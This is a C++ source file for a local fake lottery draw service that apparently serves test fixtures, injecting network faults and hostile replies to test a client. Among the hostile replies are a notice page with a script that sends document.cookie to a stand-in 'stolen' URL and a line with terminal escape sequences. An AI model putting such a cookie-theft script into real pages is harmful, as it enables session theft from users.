#include "DrawService.h"

#include "draws/DrawImport.h"
#include "generator/RandomSource.h"
#include "i18n/TextFile.h"

#include <QCommandLineParser>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QLocale>
#include <QTimeZone>
#include <algorithm>

namespace kugelo::drawservice {

namespace {

QByteArray joinLines(const std::vector<ServedDraw>& draws) {
    QByteArray body;
    for (const ServedDraw& d : draws)
        body += d.line();
    return body;
}

// Stands in where a fault needs a draw line on a day without a draw.
ServedDraw sampleDraw(const QDate& day) {
    return ServedDraw{day, {3, 49, 17, 5, 22}, 7, "1234567"};
}

// Another draw of the same day that differs in every field and stays in range.
ServedDraw otherDraw(const ServedDraw& d) {
    ServedDraw other = d;
    for (int& n : other.numbers)
        n = n % 49 + 1;
    other.chance = d.chance % 10 + 1;
    for (char& c : other.digits)
        c = static_cast<char>('0' + (c - '0' + 1) % 10);
    return other;
}

QByteArray reasonPhrase(int status) {
    switch (status) {
    case 200:
        return "OK";
    case 301:
        return "Moved Permanently";
    case 302:
        return "Found";
    case 400:
        return "Bad Request";
    case 403:
        return "Forbidden";
    case 404:
        return "Not Found";
    case 408:
        return "Request Timeout";
    case 429:
        return "Too Many Requests";
    case 500:
        return "Internal Server Error";
    case 502:
        return "Bad Gateway";
    case 503:
        return "Service Unavailable";
    case 504:
        return "Gateway Timeout";
    default:
        return "Status " + QByteArray::number(status);
    }
}

// The main numbers of each data line in file order, or nothing for a line whose numbers cannot be read
// here (parseDrawCsv has judged the file already; this only recovers the order it sorts away).
std::vector<std::optional<std::array<int, 5>>> drawnOrders(const TextLines& lines) {
    std::vector<std::optional<std::array<int, 5>>> orders;
    QChar separator = QLatin1Char(',');
    std::array<qsizetype, 5> columns{1, 2, 3, 4, 5};
    bool first = true;
    for (QString line : lines) {
        line = line.trimmed();
        if (line.isEmpty()) continue;
        if (first && line.contains(QLatin1Char(';'))) separator = QLatin1Char(';');
        QStringList fields = line.split(separator);
        for (QString& f : fields) {
            f = f.trimmed();
            if (f.size() >= 2 && f.startsWith(QLatin1Char('"')) && f.endsWith(QLatin1Char('"')))
                f = f.mid(1, f.size() - 2).trimmed();
        }
        if (first) {
            first = false;
            if (separator == QLatin1Char(';')) {
                for (int i = 0; i < 5; ++i)
                    columns[i] = fields.indexOf(QStringLiteral("boule_%1").arg(i + 1));
                continue;
            }
            if (fields.value(0).compare(QStringLiteral("date"), Qt::CaseInsensitive) == 0) continue;
        }
        std::array<int, 5> numbers{};
        bool ok = true;
        for (int i = 0; i < 5 && ok; ++i)
            numbers[i] = fields.value(columns[i]).toInt(&ok);
        orders.push_back(ok ? std::optional(numbers) : std::nullopt);
    }
    return orders;
}

QDate isoDate(const QString& text) {
    return QDate::fromString(text, QStringLiteral("yyyy-MM-dd"));
}

// "DATE=VALUE" with DATE as yyyy-mm-dd.
bool splitDateValue(const QString& text, QDate* date, QString* value) {
    const qsizetype eq = text.indexOf(QLatin1Char('='));
    if (eq < 0) return false;
    *date = isoDate(text.left(eq));
    *value = text.mid(eq + 1);
    return date->isValid();
}

} // namespace

QByteArray ServedDraw::line() const {
    QByteArray text;
    for (int n : numbers)
        text += QByteArray::number(n) + ',';
    return text + QByteArray::number(chance) + ',' + digits + "\r\n";
}

DrawHistory DrawHistory::fromCsv(const QString& fileName, const QByteArray& bytes) {
    const TextLines lines = textLines(bytes, fileName);
    const std::vector<DrawRecord> records = parseDrawCsv(fileName, lines);
    const auto orders = drawnOrders(lines);
    DrawHistory history;
    for (std::size_t i = 0; i < records.size(); ++i) {
        const DrawRecord& r = records[i];
        ServedDraw d;
        d.date = r.date();
        for (int k = 0; k < 5; ++k)
            d.numbers[k] = r.Zahl[k];
        if (orders.size() == records.size() && orders[i]) {
            std::array<int, 5> sorted = *orders[i];
            std::sort(sorted.begin(), sorted.end());
            if (sorted == d.numbers) d.numbers = *orders[i];
        }
        d.chance = r.chance();
        d.digits = r.digits().toLatin1();
        history.m_draws.emplace(d.date, d);
    }
    return history;
}

DrawHistory DrawHistory::demo(std::uint32_t seed, const QDate& first, const QDate& last) {
    DrawHistory history;
    RandomSource random(seed);
    for (QDate day = first; day <= last; day = day.addDays(1)) {
        const int weekday = day.dayOfWeek();
        if (weekday != Qt::Monday && weekday != Qt::Wednesday && weekday != Qt::Saturday) continue;
        ServedDraw d;
        d.date = day;
        for (int i = 0; i < 5; ++i) {
            int n = 0;
            do
                n = random.oneTo(49);
            while (std::find(d.numbers.begin(), d.numbers.begin() + i, n) != d.numbers.begin() + i);
            d.numbers[i] = n;
        }
        d.chance = random.oneTo(10);
        for (char& c : d.digits)
            c = static_cast<char>('0' + random.below(10));
        history.m_draws.emplace(day, d);
    }
    return history;
}

std::vector<ServedDraw> DrawHistory::drawsOn(const QDate& day) const {
    std::vector<ServedDraw> draws;
    const auto [begin, end] = m_draws.equal_range(day);
    for (auto it = begin; it != end; ++it)
        draws.push_back(it->second);
    return draws;
}

QDate DrawHistory::firstDate() const {
    return m_draws.empty() ? QDate() : m_draws.begin()->first;
}

QDate DrawHistory::lastDate() const {
    return m_draws.empty() ? QDate() : m_draws.rbegin()->first;
}

QStringList hostileFaultNames() {
    return {QStringLiteral("trickle"),      QStringLiteral("stall"),
            QStringLiteral("endless-body"), QStringLiteral("endless-headers"),
            QStringLiteral("bad-gzip"),     QStringLiteral("control"),
            QStringLiteral("impossible"),   QStringLiteral("cut"),
            QStringLiteral("drop"),         QStringLiteral("huge"),
            QStringLiteral("error")};
}

Reply hostileReply(const QString& name, const QDate& day, const DrawHistory& history) {
    const std::vector<ServedDraw> draws = history.drawsOn(day);
    const ServedDraw firstDraw = draws.empty() ? sampleDraw(day) : draws.front();
    Reply reply{200, firstDraw.line(), Reply::Ending::Complete, {}, name};
    if (name == QLatin1String("trickle")) {
        reply.ending = Reply::Ending::Trickle;
    } else if (name == QLatin1String("stall")) {
        reply.ending = Reply::Ending::Stall;
    } else if (name == QLatin1String("endless-body")) {
        reply.ending = Reply::Ending::EndlessBody;
    } else if (name == QLatin1String("endless-headers")) {
        reply.ending = Reply::Ending::EndlessHeaders;
    } else if (name == QLatin1String("bad-gzip")) {
        reply.headers = "Content-Encoding: gzip\r\n";
        reply.body = QByteArray("\x1f\x8b\x08\x00", 4) + firstDraw.line(); // a gzip magic, then no stream
    } else if (name == QLatin1String("control")) {
        static const char text[] = "Wartung\0\x1b]0;pwned\x07\x1b[2J\x1b[31mrot\x9b\x07\r\n";
        reply.body = QByteArray(text, sizeof text - 1) + firstDraw.line();
    } else if (name == QLatin1String("impossible")) {
        // One of the lines a service must not get stored, chosen by the day.
        static const char* const lines[] = {
            "0,2,3,4,5,1,1234567", "1,2,3,4,50,1,1234567", "-1,2,3,4,5,1,1234567", "305,2,3,4,5,1,1234567",
            "1,2,3,4,5,0,1234567", "1,2,3,4,5,11,1234567", "7,7,7,7,7,1,1234567",  "1,2,3,4,5,1,123456789",
        };
        const auto n = static_cast<std::size_t>(day.toJulianDay()) % std::size(lines);
        reply.body = QByteArray(lines[n]) + "\r\n";
    } else if (name == QLatin1String("cut")) {
        reply.ending = Reply::Ending::CloseMidBody;
    } else if (name == QLatin1String("drop")) {
        reply.ending = Reply::Ending::CloseWithoutReply;
    } else if (name == QLatin1String("huge")) {
        const QByteArray line = firstDraw.line();
        reply.body.clear();
        reply.body.reserve(HugeBodySize + line.size());
        while (reply.body.size() < HugeBodySize)
            reply.body += line;
    } else if (name == QLatin1String("error")) {
        reply.status = 503;
    }
    return reply;
}

Reply replyForDay(const QDate& day, const DrawHistory& history, const FaultTable& faults) {
    const std::pair<const std::set<QDate>*, const char*> hostile[] = {
        {&faults.trickle, "trickle"},          {&faults.stall, "stall"},
        {&faults.endlessBody, "endless-body"}, {&faults.endlessHeaders, "endless-headers"},
        {&faults.badGzip, "bad-gzip"},         {&faults.control, "control"},
        {&faults.impossible, "impossible"}};
    for (const auto& [days, name] : hostile)
        if (days->count(day)) return hostileReply(QString::fromLatin1(name), day, history);
    if (faults.drop.count(day)) return Reply{200, {}, Reply::Ending::CloseWithoutReply, {}, {}};
    if (const auto it = faults.notice.find(day); it != faults.notice.end())
        return Reply{200, it->second + "\r\n", Reply::Ending::Complete, {}, {}};

    const std::vector<ServedDraw> draws = history.drawsOn(day);
    if (const auto it = faults.errorStatus.find(day); it != faults.errorStatus.end())
        return Reply{it->second, joinLines(draws), Reply::Ending::Complete, {}, {}};

    const ServedDraw firstDraw = draws.empty() ? sampleDraw(day) : draws.front();
    if (faults.cut.count(day)) return Reply{200, firstDraw.line(), Reply::Ending::CloseMidBody, {}, {}};
    if (faults.huge.count(day)) {
        const QByteArray line = firstDraw.line();
        QByteArray body;
        body.reserve(HugeBodySize + line.size());
        while (body.size() < HugeBodySize)
            body += line;
        return Reply{200, body, Reply::Ending::Complete, {}, {}};
    }
    if (faults.twice.count(day))
        return Reply{200, firstDraw.line() + otherDraw(firstDraw).line(), Reply::Ending::Complete, {}, {}};
    return Reply{200, joinLines(draws), Reply::Ending::Complete, {}, {}};
}

Reply replyForQuery(const QUrlQuery& query, const DrawHistory& history, const FaultTable& faults) {
    if (query.queryItemValue(QStringLiteral("Programm")) != QLatin1String("Kugelo"))
        return errorReply(400, "Programm=Kugelo expected");
    const QString datum = query.queryItemValue(QStringLiteral("Datum"));
    const bool eightDigits =
        datum.size() == 8 && std::all_of(datum.begin(), datum.end(), [](QChar c) { return c.isDigit(); });
    const QDate day = eightDigits ? QDate::fromString(datum, QStringLiteral("yyyyMMdd")) : QDate();
    if (!day.isValid()) return errorReply(400, "Datum=yyyymmdd expected");
    return replyForDay(day, history, faults);
}

QByteArray defaultBasketTemplate(const QString& baseUrl) {
    QByteArray t = baseUrl.toLatin1() + "/lotto/warenkorb2.asp?Tipps=[Anzahl]";
    for (int n = 1; n <= 12; ++n)
        t += "&kasten" + QByteArray::number(n) + "=[KASTEN" + QByteArray::number(n) + ']';
    return t;
}

QByteArray basketNoticePage() {
    return "<html><head><title>Mitteilung</title></head><body>\r\n"
           "<h2>Mitteilung</h2>\r\n"
           "<p>Der Warenkorb ist wegen Wartungsarbeiten bis 18 Uhr nicht erreichbar.</p>\r\n"
           "<script>document.location='http://127.0.0.1:9/stolen?'+document.cookie</script>\r\n"
           "<img src=\"http://127.0.0.1:9/tracker.gif\">\r\n"
           "</body></html>\r\n";
}

Reply replyForBasket(const QUrlQuery& query, const BasketOptions& options, const QString& baseUrl) {
    if (query.queryItemValue(QStringLiteral("Spiel")) != QLatin1String("Kugelo") ||
        query.queryItemValue(QStringLiteral("Wo")) != QLatin1String("Lottoland"))
        return errorReply(400, "Spiel=Kugelo&Wo=Lottoland expected");
    bool ok = false;
    const int tips = query.queryItemValue(QStringLiteral("Tipps")).toInt(&ok);
    if (!ok || tips < 1 || tips > 12) return errorReply(400, "Tipps=1..12 expected");
    if (options.notice) return Reply{503, basketNoticePage(), Reply::Ending::Complete, {}, {}};
    if (options.errorStatus != 0)
        return errorReply(options.errorStatus, "Der Warenkorb ist nicht erreichbar");
    return Reply{200,
                 options.linkTemplate.isEmpty() ? defaultBasketTemplate(baseUrl) : options.linkTemplate,
                 Reply::Ending::Complete,
                 {},
                 {}};
}

Reply replyForScript(const QString& name, const QString& folder) {
    const bool plainName = !name.isEmpty() && !name.contains(QLatin1Char('/')) &&
                           !name.contains(QLatin1Char('\\')) && name != QLatin1String("..") &&
                           name != QLatin1String(".");
    if (folder.isEmpty() || !plainName) return errorReply(404, "Not found");
    const QString path = QDir(folder).filePath(name);
    QFile file(path);
    if (!QFileInfo(path).isFile() || !file.open(QIODevice::ReadOnly)) return errorReply(404, "Not found");
    const QDateTime modified = QFileInfo(path).lastModified().toTimeZone(QTimeZone::utc());
    const QByteArray date =
        QLocale::c().toString(modified, QStringLiteral("ddd, dd MMM yyyy HH:mm:ss 'GMT'")).toLatin1();
    return Reply{200, file.readAll(), Reply::Ending::Complete, "Last-Modified: " + date + "\r\n", {}};
}

Reply errorReply(int status, const QByteArray& text) {
    return Reply{status, text + "\r\n", Reply::Ending::Complete, {}, {}};
}

QByteArray wireBytes(const Reply& reply) {
    using Ending = Reply::Ending;
    if (reply.ending == Ending::CloseWithoutReply) return {};
    QByteArray bytes =
        "HTTP/1.1 " + QByteArray::number(reply.status) + ' ' + reasonPhrase(reply.status) + "\r\n";
    if (reply.ending == Ending::EndlessHeaders) return bytes;
    bytes += "Content-Type: text/plain; charset=windows-1252\r\n" + reply.headers;
    if (reply.ending == Ending::EndlessBody) return bytes + "Connection: close\r\n\r\n";
    bytes += "Content-Length: " + QByteArray::number(reply.body.size()) + "\r\n";
    if (reply.ending == Ending::CloseMidBody)
        return bytes + "Connection: close\r\n\r\n" + reply.body.left(reply.body.size() / 2);
    if (reply.ending == Ending::Trickle || reply.ending == Ending::Stall) return bytes + "\r\n";
    return bytes + "\r\n" + reply.body;
}

std::optional<Options> parseOptions(const QStringList& arguments, QString* error) {
    QCommandLineParser parser;
    const QCommandLineOption help(QStringList{QStringLiteral("h"), QStringLiteral("help")});
    const QCommandLineOption version(QStringLiteral("version"));
    const auto valued = [](const char* name) {
        return QCommandLineOption(QString::fromLatin1(name), QString(), QStringLiteral("value"));
    };
    const QCommandLineOption port = valued("port"), csv = valued("csv"), seed = valued("seed"),
                             delay = valued("delay-ms"), errorOpt = valued("error"),
                             notice = valued("notice"), cut = valued("cut"), drop = valued("drop"),
                             huge = valued("huge"), twice = valued("double"), trickle = valued("trickle"),
                             stall = valued("stall"), endlessBody = valued("endless-body"),
                             endlessHeaders = valued("endless-headers"), badGzip = valued("bad-gzip"),
                             control = valued("control"), impossible = valued("impossible"),
                             randomFaults = valued("random-faults"),
                             basketTemplate = valued("basket-template"), basketError = valued("basket-error"),
                             scripts = valued("scripts");
    const QCommandLineOption basketNotice(QStringLiteral("basket-notice"));
    parser.addOptions({help,    version, port,       csv,         seed,    delay, errorOpt,    notice,
                       cut,     drop,    huge,       twice,       trickle, stall, endlessBody, endlessHeaders,
                       badGzip, control, impossible, randomFaults});
    parser.addOptions({basketTemplate, basketError, basketNotice, scripts});

    const auto fail = [error](const QString& text) -> std::optional<Options> {
        if (error) *error = text;
        return std::nullopt;
    };
    if (!parser.parse(QStringList{QStringLiteral("draw-service")} + arguments))
        return fail(parser.errorText());
    if (!parser.positionalArguments().isEmpty())
        return fail(QStringLiteral("Unexpected argument: %1").arg(parser.positionalArguments().first()));

    Options o;
    o.help = parser.isSet(help);
    o.version = parser.isSet(version);
    for (const QCommandLineOption* single :
         {&port, &csv, &seed, &delay, &randomFaults, &basketTemplate, &basketError, &scripts})
        if (parser.values(*single).size() > 1)
            return fail(QStringLiteral("--%1 given more than once").arg(single->names().first()));

    bool ok = true;
    if (parser.isSet(port)) {
        const uint value = parser.value(port).toUInt(&ok);
        if (!ok || value > 65535) return fail(QStringLiteral("--port needs 0..65535"));
        o.port = static_cast<quint16>(value);
    }
    o.csvFile = parser.value(csv);
    if (parser.isSet(csv) && o.csvFile.isEmpty()) return fail(QStringLiteral("--csv needs a file name"));
    if (parser.isSet(seed)) {
        o.seed = parser.value(seed).toUInt(&ok);
        if (!ok) return fail(QStringLiteral("--seed needs a whole number 0..4294967295"));
    }
    if (parser.isSet(delay)) {
        o.faults.delayMs = parser.value(delay).toInt(&ok);
        if (!ok || o.faults.delayMs < 0 || o.faults.delayMs > 600000)
            return fail(QStringLiteral("--delay-ms needs 0..600000"));
    }

    if (parser.isSet(basketTemplate)) {
        QFile file(parser.value(basketTemplate));
        if (!file.open(QIODevice::ReadOnly))
            return fail(QStringLiteral("--basket-template: cannot read %1").arg(file.fileName()));
        o.basket.linkTemplate = file.readAll();
        if (o.basket.linkTemplate.isEmpty())
            return fail(QStringLiteral("--basket-template: %1 is empty").arg(file.fileName()));
    }
    if (parser.isSet(basketError)) {
        o.basket.errorStatus = parser.value(basketError).toInt(&ok);
        if (!ok || o.basket.errorStatus < 400 || o.basket.errorStatus > 599)
            return fail(QStringLiteral("--basket-error needs a status 400..599"));
    }
    o.basket.notice = parser.isSet(basketNotice);
    if (o.basket.notice && o.basket.errorStatus != 0)
        return fail(QStringLiteral("--basket-notice and --basket-error exclude each other"));
    o.scriptFolder = parser.value(scripts);
    if (parser.isSet(scripts) && !QFileInfo(o.scriptFolder).isDir())
        return fail(QStringLiteral("--scripts needs a folder: %1").arg(o.scriptFolder));

    if (parser.isSet(randomFaults)) {
        o.faults.randomRate = parser.value(randomFaults).toDouble(&ok);
        if (!ok || !(o.faults.randomRate >= 0 && o.faults.randomRate <= 1))
            return fail(QStringLiteral("--random-faults needs a chance 0..1"));
    }

    // One fault per day, so that a test knows what it gets.
    std::set<QDate> taken;
    const auto take = [&](const QString& option, const QDate& day) {
        if (!taken.insert(day).second) {
            if (error)
                *error =
                    QStringLiteral("--%1: %2 has a fault already").arg(option, day.toString(Qt::ISODate));
            return false;
        }
        return true;
    };
    for (const QString& v : parser.values(errorOpt)) {
        QDate day;
        QString statusText;
        const int status = splitDateValue(v, &day, &statusText) ? statusText.toInt(&ok) : 0;
        if (!day.isValid() || !ok || status < 300 || status > 599)
            return fail(QStringLiteral("--error needs DATE=STATUS with STATUS 300..599: %1").arg(v));
        if (!take(QStringLiteral("error"), day)) return std::nullopt;
        o.faults.errorStatus[day] = status;
    }
    for (const QString& v : parser.values(notice)) {
        QDate day;
        QString text;
        if (!splitDateValue(v, &day, &text) || text.isEmpty())
            return fail(QStringLiteral("--notice needs DATE=TEXT: %1").arg(v));
        if (!take(QStringLiteral("notice"), day)) return std::nullopt;
        o.faults.notice[day] = text.toLatin1();
    }
    const std::pair<const QCommandLineOption*, std::set<QDate>*> dayFaults[] = {
        {&cut, &o.faults.cut},
        {&drop, &o.faults.drop},
        {&huge, &o.faults.huge},
        {&twice, &o.faults.twice},
        {&trickle, &o.faults.trickle},
        {&stall, &o.faults.stall},
        {&endlessBody, &o.faults.endlessBody},
        {&endlessHeaders, &o.faults.endlessHeaders},
        {&badGzip, &o.faults.badGzip},
        {&control, &o.faults.control},
        {&impossible, &o.faults.impossible}};
    for (const auto& [option, days] : dayFaults) {
        const QString name = option->names().first();
        for (const QString& v : parser.values(*option)) {
            const QDate day = isoDate(v);
            if (!day.isValid()) return fail(QStringLiteral("--%1 needs a date yyyy-mm-dd: %2").arg(name, v));
            if (!take(name, day)) return std::nullopt;
            days->insert(day);
        }
    }
    return o;
}

QString helpText() {
    return QStringLiteral(
        "Usage: draw-service [options]\n"
        "\n"
        "Stand-in for the vendor's draw service, for the run script and the tests. Listens on\n"
        "127.0.0.1 only and answers GET /lotto/kugelo.asp?Programm=Kugelo&Datum=yyyymmdd with status 200\n"
        "and one line per draw of that day, \"n1,n2,n3,n4,n5,chance,1234567\" and CR LF (main numbers in\n"
        "drawn order where the file has them so), or an empty body when there is no draw that day.\n"
        "A missing extra number is sent as 0000000. Another Programm or a Datum that is not a valid day\n"
        "written yyyymmdd gives 400; any other path gives 404.\n"
        "The first line on stdout is the port number.\n"
        "\n"
        "Options:\n"
        "  --port N            port to listen on; 0 (the default) picks a free one\n"
        "  --csv FILE          serve the draws of FILE (either format that kugelo-cli import reads)\n"
        "  --seed N            without --csv: seed of the demo history (default 20081006)\n"
        "  --version           print the version\n"
        "  -h, --help          print this text\n"
        "\n"
        "Without --csv the service makes up a demo history: random draws on every Monday, Wednesday and\n"
        "Saturday from 2008-10-06 to today, the same for the same seed. They are not real results.\n"
        "\n"
        "Faults (DATE is yyyy-mm-dd; each option may be repeated; one fault per day):\n"
        "  --delay-ms N        wait N ms before every reply (other requests are served meanwhile)\n"
        "  --error DATE=STATUS answer with STATUS (300..599); the body stays the day's draw lines\n"
        "  --notice DATE=TEXT  status 200 with TEXT and CR LF in place of the draw lines\n"
        "  --cut DATE          headers announce the day's first draw line (or a sample line when the day\n"
        "                      has none), half of it is sent, then the connection is closed\n"
        "  --drop DATE         the connection is closed without any reply\n"
        "  --huge DATE         status 200 with about 3 MiB of the day's draw line (or a sample line)\n"
        "  --double DATE       two draw lines: the day's draw (or a sample) and a different second one\n"
        "\n"
        "A complete reply that ends in the middle of a line is --notice with that text,\n"
        "for example --notice 2008-10-08=19,33,41,2.\n"
        "\n"
        "Hostile faults (DATE as above; one fault per day):\n"
        "  --trickle DATE          headers, then the day's line one byte per second\n"
        "  --stall DATE            headers announcing the line, then silence (the connection stays)\n"
        "  --endless-body DATE     a body without length: the day's line every 20 ms, for ever\n"
        "  --endless-headers DATE  the status line, then a header line every 10 ms, for ever\n"
        "  --bad-gzip DATE         Content-Encoding: gzip over bytes that are no gzip stream\n"
        "  --control DATE          a line with NUL, ESC sequences (one retitles a terminal) and BEL,\n"
        "                          then the day's line\n"
        "  --impossible DATE       a line with numbers no draw has (0, 50, -1, 305, a CHANCE of 0 or 11,\n"
        "                          five equal numbers, nine digits), chosen by the day\n"
        "  --random-faults P       every request plays, with the chance P (0..1), one of: trickle,\n"
        "                          stall, endless-body, endless-headers, bad-gzip, control, impossible,\n"
        "                          cut, drop, huge, error (503); the choices follow from --seed.\n"
        "                          Each fault played is logged on stdout: \"fault DATE NAME\".\n"
        "\n"
        "Basket service: GET /lotto/lotto.asp?Spiel=Kugelo&Wo=Lottoland&Tipps=N (N 1..12) answers with\n"
        "status 200 and a link template to the service's own /lotto/warenkorb2.asp with [Anzahl] and\n"
        "[KASTEN1] ... [KASTEN12]; other parameters give 400.\n"
        "  --basket-template FILE  answer with the bytes of FILE as the template instead\n"
        "  --basket-notice         answer with status 503 and a notice page (\"Mitteilung\") that holds a\n"
        "                          script and a remote image\n"
        "  --basket-error STATUS   answer with STATUS (400..599) and a page that is no notice\n"
        "\n"
        "Script directory: GET /scripts/NAME answers with the file NAME of the folder of\n"
        "  --scripts DIR           and its modification time as Last-Modified; 404 without the option,\n"
        "                          for a missing file or a name that is no plain file name.\n");
}

} // namespace kugelo::drawservice
